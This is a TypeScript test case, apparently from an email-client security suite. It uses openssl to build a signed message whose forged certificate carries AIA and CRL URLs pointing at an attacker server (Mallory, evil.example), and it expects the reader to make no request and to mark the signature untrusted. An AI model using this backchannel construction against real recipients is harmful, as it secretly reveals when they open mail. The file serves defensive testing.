/**
 * EFAIL (2018) backchannels: a message signed with a certificate Mallory made, whose issuer is missing
 * from the message and whose AIA caIssuers and CRL distribution point name Mallory's server. A reader
 * that fetches them to build a path tells Mallory that, and when, the message was opened; the
 * certificate chains to no anchor anyway. Opening must make no request.
 */
import { execFileSync } from 'node:child_process';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { utf8 } from '../../../shared/bytes';
import { FRAME, type AttackCase } from '../lib/attack-case';
import { headers, textEntity } from '../lib/message';

const openssl = (args: string[], input?: string) =>
  execFileSync('openssl', args, { input, stdio: ['pipe', 'pipe', 'ignore'] }).toString('latin1');

export default {
  name: 'backchannel-aia-ca-issuers',
  class: 'efail-direct',
  source: 'Poddebniak et al., "Efail" (2018), backchannels through certificate URLs',
  async build(k) {
    const dir = mkdtempSync(join(k.pem.ca, '..', 'aia-'));
    const f = (n: string) => join(dir, n);
    writeFileSync(
      f('ext.cnf'),
      [
        '[usr]',
        'basicConstraints=CA:FALSE',
        'keyUsage=digitalSignature,keyEncipherment',
        'extendedKeyUsage=emailProtection',
        'subjectAltName=email:mallory@evil.example',
        `authorityInfoAccess=caIssuers;URI:${k.remote}/ca.cer`,
        `crlDistributionPoints=URI:${k.remote}/ca.crl`,
        '',
      ].join('\n'),
    );
    openssl([
      'req',
      '-x509',
      '-newkey',
      'rsa:2048',
      '-nodes',
      '-keyout',
      f('ca.key'),
      '-out',
      f('ca.pem'),
      '-subj',
      '/CN=Mallory Intermediate',
      '-days',
      '10',
    ]);
    openssl([
      'req',
      '-newkey',
      'rsa:2048',
      '-nodes',
      '-keyout',
      f('u.key'),
      '-out',
      f('u.csr'),
      '-subj',
      '/CN=Mallory/emailAddress=mallory@evil.example',
    ]);
    openssl([
      'x509',
      '-req',
      '-in',
      f('u.csr'),
      '-CA',
      f('ca.pem'),
      '-CAkey',
      f('ca.key'),
      '-CAcreateserial',
      '-out',
      f('u.pem'),
      '-days',
      '10',
      '-extfile',
      f('ext.cnf'),
      '-extensions',
      'usr',
    ]);
    // The signer certificate only: its issuer must be looked for.
    const signed = openssl(
      ['cms', '-sign', '-binary', '-md', 'sha256', '-signer', f('u.pem'), '-inkey', f('u.key')],
      textEntity('Did you get my last mail?'),
    );
    return utf8(
      `${headers({ from: 'Mallory <mallory@evil.example>' })}\r\n${signed.replace(/\r?\n/g, '\r\n')}`,
    );
  },
  expect: {
    valid: true,
    trusted: false,
    coverage: { kind: 'whole', signedPaths: [''] },
    fromMatchesSigner: true,
    integrityProtected: null,
    errors: [],
    frame: { statusIncludes: [FRAME.notTrusted], statusExcludes: [FRAME.trusted + ' ('] },
  },
} satisfies AttackCase;
